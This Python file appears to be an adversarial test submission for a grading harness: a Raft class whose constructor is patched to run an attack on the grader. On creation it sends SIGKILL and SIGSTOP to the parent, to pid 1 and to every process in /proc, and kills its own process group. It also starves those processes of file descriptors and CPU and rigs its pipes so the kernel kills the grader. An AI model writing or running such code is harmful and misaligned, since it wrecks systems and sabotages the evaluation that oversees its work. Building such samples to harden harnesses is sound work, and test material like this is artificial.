# base: reference
"""Kill the grader: its process, its group, every process there is, the parent, and
every Python process found in /proc; have the kernel signal them for it (F_SETOWN,
F_SETSIG and O_ASYNC on its own pipes, FIOSETOWN); starve them (their limits, their
priority, their CPUs). A correct Raft otherwise: it must get exactly its 100, and
the grader must finish."""
import fcntl as _fcntl
import os as _os
import resource as _resource
import signal as _signal
import struct as _struct


def _pids():
    found = []
    try:
        for name in _os.listdir("/proc"):
            if name.isdigit() and int(name) != _os.getpid():
                found.append(int(name))
    except BaseException:
        pass
    return found


def _attack():
    targets = [_os.getppid(), 1, 0, -1] + _pids()
    for pid in targets:
        for sig in (_signal.SIGKILL, _signal.SIGTERM, _signal.SIGSTOP):
            try:
                _os.kill(pid, sig)
            except BaseException:
                pass
    try:
        _os.killpg(_os.getpgid(0), _signal.SIGKILL)
    except BaseException:
        pass
    for pid in targets:
        if pid <= 0:  # pid 0 is itself: that would only end this server
            continue
        for call in (lambda: _resource.prlimit(pid, _resource.RLIMIT_NOFILE, (0, 0)),
                     lambda: _resource.prlimit(pid, _resource.RLIMIT_CPU, (0, 0)),
                     lambda: _os.setpriority(_os.PRIO_PROCESS, pid, 19),
                     lambda: _os.sched_setaffinity(pid, {0})):
            try:
                call()
            except BaseException:
                pass
    # Every descriptor it holds (its pipes to the grader among them): when the grader
    # next writes or reads, the kernel would SIGKILL the owner set here.
    target = _os.getppid()
    for pid in _pids():  # the grader's worker, if /proc shows it
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if b"grader" in f.read():
                    target = pid
        except BaseException:
            pass
    for fd in range(64):
        for request, arg in ((_fcntl.F_SETOWN, target), (10, _signal.SIGKILL)):  # F_SETSIG
            try:
                _fcntl.fcntl(fd, request, arg)
            except BaseException:
                pass
        try:
            _fcntl.ioctl(fd, 0x8901, _struct.pack("i", target))  # FIOSETOWN
        except BaseException:
            pass
        try:
            _fcntl.fcntl(fd, _fcntl.F_SETFL, _fcntl.fcntl(fd, _fcntl.F_GETFL) | _os.O_ASYNC)
        except BaseException:
            pass


_init = Raft.__init__


def __init__(self, *args):
    _init(self, *args)
    _attack()


Raft.__init__ = __init__
